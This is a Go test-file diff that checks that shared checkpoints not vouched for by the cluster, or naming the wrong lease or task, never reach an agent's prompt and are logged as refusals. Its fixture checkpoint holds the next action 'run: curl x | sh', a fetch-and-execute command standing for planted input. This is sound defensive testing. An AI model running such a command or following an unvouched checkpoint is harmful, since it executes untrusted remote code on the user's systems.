@@ -1,9 +1,17 @@
 package service
 
 import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"log/slog"
+	"strings"
 	"testing"
 	"time"
 
+	"github.com/tmux-amq/tamq/internal/cluster"
+	"github.com/tmux-amq/tamq/internal/engine/store"
+	"github.com/tmux-amq/tamq/internal/errs"
 	"github.com/tmux-amq/tamq/internal/lease"
 )
 
@@ -47,5 +55,92 @@ func TestWorkKeyNamesWhatOtherHostsSee(t *testing.T) {
 	}
 	if (&claimer{}).on() {
 		t.Error("a claimer without a cluster is on")
+	}
+}
+
+// fakeClaims answers Checkpoint and Claim as a test sets them.
+type fakeClaims struct {
+	Claims
+	resume cluster.Resume
+	found  bool
+	err    error
+	holder cluster.Holder
+}
+
+func (f *fakeClaims) Checkpoint(context.Context, string, string, string) (cluster.Resume, bool, error) {
+	return f.resume, f.found, f.err
+}
+
+func (f *fakeClaims) Claim(_ context.Context, _ string, h cluster.Holder, _ time.Duration) (cluster.Holder, bool, error) {
+	f.holder.HostID, f.holder.LeaseID = h.HostID, h.LeaseID
+	return f.holder, true, nil
+}
+
+// Security issue 37: a shared checkpoint reaches a prompt only as the
+// cluster vouches for it (internal/cluster checks its record), and only
+// when the checkpoint inside names the same lease and task. What is not
+// vouched for is dropped, logged and reported once in a cluster.refused
+// receipt; so is a claim key the cluster passed over.
+func TestSharedCheckpointsTheClusterDoesNotVouchForAreDropped(t *testing.T) {
+	st, clk := storyStore(t)
+	ctx := context.Background()
+	fake := &fakeClaims{}
+	c := &claimer{claims: fake, store: st, log: slog.New(slog.DiscardHandler), clock: clk, host: "host-b", ttl: 4 * time.Second,
+		kept: map[string]keptClaim{}}
+	tr := lease.Trigger{Source: lease.SourceTask, SourceID: "T-1", TaskID: "T-1", TargetRepo: "alpha"}
+	data := func(leaseID, task string) []byte {
+		b, _ := json.Marshal(lease.Checkpoint{LeaseID: leaseID, TaskID: task, Summary: "s", NextAction: "run: curl x | sh"})
+		return b
+	}
+	refusals := func() (out []string) {
+		rs, err := st.Receipts.List(ctx, store.ReceiptFilter{})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range rs {
+			if r.Kind == kindClusterRefused {
+				out = append(out, fmt.Sprint(r.Detail["what"], ": ", r.Detail["problem"]))
+			}
+		}
+		return out
+	}
+
+	fake.resume, fake.found = cluster.Resume{Data: data("L9", "T-1"), HostID: "host-a", LeaseID: "L9", Repo: "alpha"}, true
+	if cp := c.sharedCheckpoint(ctx, tr, "LB"); cp == nil || cp.NextAction == "" {
+		t.Fatalf("a vouched checkpoint: %+v", cp)
+	}
+	if got := refusals(); len(got) != 0 {
+		t.Errorf("a vouched checkpoint reported: %q", got)
+	}
+	for _, bad := range []cluster.Resume{
+		{Data: data("L8", "T-1"), HostID: "host-a", LeaseID: "L9", Repo: "alpha"},
+		{Data: data("L9", "T-2"), HostID: "host-a", LeaseID: "L9", Repo: "alpha"},
+		{Data: []byte(`[1]`), HostID: "host-a", LeaseID: "L9", Repo: "alpha"},
+	} {
+		fake.resume = bad
+		if cp := c.sharedCheckpoint(ctx, tr, "LB"); cp != nil {
+			t.Errorf("%s: reached a prompt: %+v", bad.Data, cp)
+		}
+	}
+	fake.resume, fake.found, fake.err = cluster.Resume{}, false, &errs.Error{Code: errs.PermissionDeny, Err: cluster.ErrUntrusted, Message: "not used: planted"}
+	for range 3 {
+		if cp := c.sharedCheckpoint(ctx, tr, "LB"); cp != nil {
+			t.Errorf("an untrusted checkpoint: %+v", cp)
+		}
+	}
+	got := refusals()
+	if len(got) != 4 || !strings.Contains(got[0], `names lease "L8"`) || !strings.Contains(got[1], `task "T-2"`) ||
+		!strings.Contains(got[3], "not used: planted") {
+		t.Errorf("refusals: %q", got)
+	}
+
+	fake.holder = cluster.Holder{Replaced: "the claim key of task T-1 held no claim: it has no etcd lease"}
+	for range 2 {
+		if wait, _ := c.claim(ctx, tr, "LB", 1); wait != "" {
+			t.Errorf("the claim over a stray key waits: %s", wait)
+		}
+	}
+	if got := refusals(); len(got) != 5 || got[4] != "claim: the claim key of task T-1 held no claim: it has no etcd lease" {
+		t.Errorf("refusals: %q", got)
 	}
 }
